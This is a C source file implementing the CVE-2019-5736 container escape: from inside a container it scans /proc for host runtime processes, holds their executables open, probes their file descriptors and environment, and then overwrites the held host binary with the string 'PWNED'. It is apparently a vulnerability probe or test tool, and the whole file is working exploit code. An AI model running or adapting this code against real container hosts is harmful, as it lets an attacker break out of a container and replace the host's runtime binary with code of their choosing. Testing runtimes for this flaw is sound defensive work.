/* A CVE-2019-5736 attacker inside a container: poll /proc for processes that run a binary from outside the
 * container (the runtime's interpreter while it sets up an exec), open their /proc/PID/exe and fds, and once
 * the runtime is gone reopen the held exe for writing and overwrite it. Prints one line per event:
 *   denied PID        /proc/PID/exe of a new process could not be opened (EACCES/EPERM)
 *   grabbed PID       a binary that is neither ours nor busybox was opened read-only and is held
 *   fd PID N          its fd N (above stdio) could be opened too
 *   environ PID       its environment could be read
 *   overwrote PID     the held binary was reopened for writing and changed
 * Usage: exe_grab SECONDS [BUSYBOX]; exits after SECONDS, or after an overwrite. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_PIDS 4096
#define MAX_HELD 64

static char seen[MAX_PIDS];
static int held_fd[MAX_HELD], held_pid[MAX_HELD], held;

static int same_file(int fd, const struct stat *known) {
    struct stat st;
    return fstat(fd, &st) == 0 && st.st_dev == known->st_dev && st.st_ino == known->st_ino;
}

static void probe_fds(int pid) {
    char path[64];
    for (int n = 3; n < 64; n++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
        int fd = open(path, O_RDONLY | O_NONBLOCK);
        if (fd >= 0) {
            printf("fd %d %d\n", pid, n);
            close(fd);
        }
    }
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY);
    char byte;
    if (fd >= 0 && read(fd, &byte, 1) == 1)
        printf("environ %d\n", pid);
    if (fd >= 0)
        close(fd);
}

static void look(int pid, const struct stat *self, const struct stat *busybox) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        if ((errno == EACCES || errno == EPERM) && !seen[pid])
            printf("denied %d\n", pid);
        seen[pid] = 2;  /* look again: it may drop its capabilities before it execs */
        return;
    }
    seen[pid] = 1;
    if (same_file(fd, self) || same_file(fd, busybox) || held == MAX_HELD) {
        close(fd);
        return;
    }
    printf("grabbed %d\n", pid);
    probe_fds(pid);
    held_fd[held] = fd;
    held_pid[held++] = pid;
}

static void scan(const struct stat *self, const struct stat *busybox) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
        int pid = atoi(entry->d_name);
        if (pid > 0 && pid < MAX_PIDS && pid != getpid() && seen[pid] != 1)
            look(pid, self, busybox);
    }
    if (proc)
        closedir(proc);
}

static int overwrite(void) {
    char path[64];
    for (int i = 0; i < held; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", held_fd[i]);
        int fd = open(path, O_WRONLY);  /* ETXTBSY while anything still runs it */
        if (fd >= 0 && pwrite(fd, "PWNED", 5, 0) == 5) {
            printf("overwrote %d\n", held_pid[i]);
            return 1;
        }
        if (fd >= 0)
            close(fd);
    }
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    struct stat self, busybox;
    if (argc < 2 || stat("/proc/self/exe", &self) || stat(argc > 2 ? argv[2] : "/bin/busybox", &busybox)) {
        fprintf(stderr, "usage: exe_grab SECONDS [BUSYBOX]\n");
        return 2;
    }
    time_t deadline = time(NULL) + atoi(argv[1]);
    while (time(NULL) < deadline) {
        scan(&self, &busybox);
        if (overwrite())
            return 0;
    }
    printf("done\n");
    return 0;
}
